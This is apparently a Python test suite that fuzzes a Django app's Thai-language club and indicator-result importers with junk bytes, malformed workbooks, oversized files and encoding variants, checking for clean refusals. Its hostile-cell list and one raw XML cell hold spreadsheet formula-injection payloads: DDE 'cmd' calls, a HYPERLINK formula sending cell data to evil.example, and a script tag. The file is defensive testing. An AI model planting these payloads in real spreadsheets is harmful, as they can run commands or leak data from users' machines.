"""Whatever file is uploaded for import — junk bytes, a broken or hostile workbook,
another encoding, formulas, a huge file — the importers answer with Thai messages,
never an exception, and a refused import writes nothing."""

import datetime
import io
import re
import zipfile

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from hypothesis import example, given
from hypothesis import strategies as st
from openpyxl import Workbook
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

from core import spreadsheets
from programs.imports.clubs import club_import
from programs.imports.indicator_results import indicator_results_import
from programs.models import Club, ClubMembership, IndicatorResult
from tests.programs.factories import IndicatorFactory, ObjectiveFactory, ProgramFactory
from tests.programs.test_club_import import HEADERS, NASOMDEE, csv_bytes, xlsx

pytestmark = pytest.mark.django_db

RESULT_HEADERS = ["รหัสตัวชี้วัด", "ปีงบประมาณ", "งวด", "ผลการดำเนินงาน", "ตัวตั้ง", "ตัวหาร",
                  "หมายเหตุ"]  # fmt: skip
HOSTILE_CELLS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1,"คลิก")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "1e999999999",
    "9" * 5000,
    "²",
    "٣",
    "\x00\x01\x02",
    "<script>alert(1)</script>",
    "ชมรม" * 200,
    "nan",
    "inf",
    "-0",
    "31/2/2566",
    "2566-06-08",
]
CELL = st.one_of(
    st.sampled_from(HOSTILE_CELLS),
    st.text(max_size=30),
    st.integers(min_value=-(10**30), max_value=10**30),
    st.floats(allow_nan=False, allow_infinity=False),
    st.booleans(),
    st.dates(min_value=datetime.date(1900, 1, 1)),
    st.none(),
)
TEXT_CELL = st.one_of(st.sampled_from(HOSTILE_CELLS), st.text(max_size=30))


def _thai(text: str) -> bool:
    return bool(re.search("[\u0e00-\u0e7f]", text))


def _club_rows(rows):
    return [[*cells, *[""] * (len(HEADERS) - len(cells))][: len(HEADERS)] for cells in rows]


@pytest.fixture
def counts():
    def counts():
        return tuple(model.objects.count() for model in (Club, ClubMembership, IndicatorResult))

    return counts


def _assert_refused_cleanly(result, before, counts):
    """A refused import says why in Thai and leaves every table as it was."""
    problems = [p.message for p in result.problems]
    assert problems and all(_thai(message) for message in problems), problems
    assert counts() == before


# --- Clubs ----------------------------------------------------------------------------------


@given(data=st.binary(max_size=3000))
@example(data=b"PK\x03\x04" + b"\x00" * 100)  # a zip header and nothing behind it
@example(data=b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 100)  # old .xls
@example(data=b"%PDF-1.4\n")
@example(data=b"MZ\x90\x00")  # a Windows program
@example(data=b"\xff\xfe" + "ชื่อชมรม\tประเภท\n".encode("utf-16-le"))
def test_junk_bytes_are_refused_with_a_thai_message(officer_a, counts, data):
    before = counts()

    result = club_import(data=data, user=officer_a)

    _assert_refused_cleanly(result, before, counts)


@given(rows=st.lists(st.lists(TEXT_CELL, max_size=len(HEADERS)), min_size=1, max_size=4),
       encoding=st.sampled_from(["utf-8", "utf-8-sig", "cp874", "utf-16"]))  # fmt: skip
def test_csv_of_any_text_in_any_encoding_never_fails(officer_a, counts, rows, encoding):
    before = counts()
    text = csv_bytes(_club_rows(rows), bom=False, encoding="utf-8").decode("utf-8")
    data = text.encode(encoding, errors="replace")

    result = club_import(data=data, user=officer_a)

    if not result.ok:
        _assert_refused_cleanly(result, before, counts)


# What a workbook can hold: openpyxl refuses control characters (the raw-XML tests below
# put them, and worse, into a workbook by hand).
XLSX_CELL = CELL.map(lambda v: ILLEGAL_CHARACTERS_RE.sub("", v) if isinstance(v, str) else v)


@given(rows=st.lists(st.lists(XLSX_CELL, max_size=len(HEADERS)), min_size=1, max_size=4))
def test_xlsx_of_any_cells_never_fails(officer_a, counts, rows):
    before = counts()

    result = club_import(data=xlsx(_club_rows(rows)), user=officer_a)

    if not result.ok:
        _assert_refused_cleanly(result, before, counts)


@pytest.mark.parametrize("formula", HOSTILE_CELLS[:3])
def test_formulas_are_refused_and_never_computed(officer_a, counts, formula):
    before = counts()
    row = list(NASOMDEE)
    row[0] = formula
    for data in (xlsx([row]), csv_bytes([row])):
        result = club_import(data=data, user=officer_a)

        _assert_refused_cleanly(result, before, counts)
        assert any("สูตร" in p.message for p in result.problems)


def _xlsx_with_raw_cell(raw: str) -> bytes:
    """A workbook whose first data cell's XML is ``raw``, as a broken or hostile
    program might write it."""
    source = zipfile.ZipFile(io.BytesIO(xlsx([NASOMDEE])))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as target:
        for item in source.infolist():
            content = source.read(item.filename)
            if item.filename == "xl/worksheets/sheet1.xml":
                content = re.sub(rb'<c r="A2"[^>]*>.*?</c>', raw.encode(), content, count=1)
            target.writestr(item, content)
    return out.getvalue()


@pytest.mark.parametrize(
    "raw",
    [
        '<c r="A2" t="n"><v>inf</v></c>',
        '<c r="A2" t="n"><v>nan</v></c>',
        '<c r="A2" t="n"><v>ไม่ใช่ตัวเลข</v></c>',
        '<c r="A2" t="s"><v>999999</v></c>',  # a shared string that does not exist
        '<c r="A2" t="d"><v>not-a-date</v></c>',
        '<c r="A2" t="b"><v>2</v></c>',
        '<c r="A2" t="e"><v>#REF!</v></c>',
        "<c r=\"A2\"><f>cmd|' /C calc'!A0</f><v>0</v></c>",
        '<c r="ZZZZZZ2" t="inlineStr"><is><t>x</t></is></c>',
        '<c r="A2" t="inlineStr"><is><t>' + "ก" * 40000 + "</t></is></c>",
    ],
)
def test_malformed_xlsx_cells_are_refused_not_crashed_on(officer_a, counts, raw):
    before = counts()

    result = club_import(data=_xlsx_with_raw_cell(raw), user=officer_a)

    _assert_refused_cleanly(result, before, counts)


def test_xlsx_with_broken_xml_is_refused(officer_a, counts):
    before = counts()
    data = _xlsx_with_raw_cell('<c r="A2"><v>1</v>')  # an unclosed element

    result = club_import(data=data, user=officer_a)

    _assert_refused_cleanly(result, before, counts)


def test_zip_bomb_like_workbook_is_refused(officer_a, counts):
    """A small upload that expands to a huge sheet is stopped by the row limit."""
    before = counts()
    book = Workbook()
    sheet = book.active
    sheet.append(HEADERS)
    for _ in range(spreadsheets.MAX_ROWS + 1):
        sheet.append(NASOMDEE[:1])
    buffer = io.BytesIO()
    book.save(buffer)

    result = club_import(data=buffer.getvalue(), user=officer_a)

    _assert_refused_cleanly(result, before, counts)
    assert "แถว" in result.problems[0].message


def test_utf16_text_saved_by_excel_is_read(officer_a):
    """Excel's "Unicode Text" is UTF-16 with tabs; it is read like a CSV."""
    text = "\t".join(HEADERS) + "\r\n" + "\t".join(NASOMDEE) + "\r\n"

    result = club_import(data=text.encode("utf-16"), user=officer_a)

    assert result.ok, [p.message for p in result.problems]
    assert result.created == 1


def test_a_huge_upload_is_refused_with_its_size_in_thai(client, officer_a, counts):
    before = counts()
    client.force_login(officer_a)
    huge = b"a," * (3 * 1024 * 1024)  # 6 MB

    response = client.post(
        reverse("programs:club_import"),
        {"file": SimpleUploadedFile("clubs.csv", huge, content_type="text/csv")},
    )

    assert response.status_code == 200
    assert "เกินกว่าที่รับได้" in response.text
    assert counts() == before


# --- Indicator results ----------------------------------------------------------------------


@pytest.fixture
def indicator(province_a):
    program = ProgramFactory(slug="to-be-number-one")
    return IndicatorFactory(
        objective=ObjectiveFactory(program=program, fiscal_year=2568), code="TB-1"
    )


@given(rows=st.lists(st.lists(TEXT_CELL, min_size=7, max_size=7), min_size=1, max_size=3),
       as_xlsx=st.booleans())  # fmt: skip
@example(rows=[["TB-1", "1e9999999", "1", "5", "", "", ""]], as_xlsx=False)
@example(rows=[["TB-1", "2568", "1e9999999", "1e9999999", "", "", ""]], as_xlsx=False)
@example(rows=[["TB-1", "2568", "1", "5", "1", "0", ""]], as_xlsx=True)
def test_results_import_of_any_text_never_fails(officer_a, province_a, indicator, counts, rows,
                                                as_xlsx):  # fmt: skip
    before = counts()
    if as_xlsx:
        rows = [[ILLEGAL_CHARACTERS_RE.sub("", cell) for cell in row] for row in rows]
    data = xlsx(rows, headers=RESULT_HEADERS) if as_xlsx else csv_bytes(rows, RESULT_HEADERS)

    report = indicator_results_import(data=data, province=province_a, user=officer_a)

    if not report.ok:
        messages = [str(error) for error in report.errors]
        assert all(_thai(message) for message in messages), messages
        assert counts() == before


@given(data=st.binary(max_size=2000))
def test_results_import_of_junk_bytes_is_refused(officer_a, province_a, counts, data):
    before = counts()

    report = indicator_results_import(data=data, province=province_a, user=officer_a)

    assert not report.ok and all(_thai(str(error)) for error in report.errors)
    assert counts() == before


def test_fiscal_year_in_exponent_form_is_refused_at_once(officer_a, province_a, indicator):
    """int() of Decimal("1e9999999") would never finish: a worker hung by one cell."""
    data = csv_bytes([["TB-1", "1e9999999", "1", "5", "", "", ""]], RESULT_HEADERS)

    report = indicator_results_import(data=data, province=province_a, user=officer_a)

    assert [str(error) for error in report.errors] == [
        "แถวที่ 2: “ปีงบประมาณ”: กรุณากรอกปีเป็นตัวเลข พ.ศ. เช่น 2568"
    ]


def test_what_our_export_quoted_imports_back_as_text(officer_a):
    row = list(NASOMDEE)
    row[0] = "'=ชมรมที่ชื่อขึ้นต้นด้วยเครื่องหมายเท่ากับ"

    result = club_import(data=csv_bytes([row]), user=officer_a)

    assert result.ok, [p.message for p in result.problems]
    assert Club.objects.filter(name="=ชมรมที่ชื่อขึ้นต้นด้วยเครื่องหมายเท่ากับ").exists()


def test_a_line_id_after_at_is_not_a_formula(officer_a):
    row = list(NASOMDEE)
    row[8] = "@tobe1nakhonphanom"

    result = club_import(data=csv_bytes([row]), user=officer_a)

    assert result.ok, [p.message for p in result.problems]
    assert Club.objects.get().contact_phone == "@tobe1nakhonphanom"
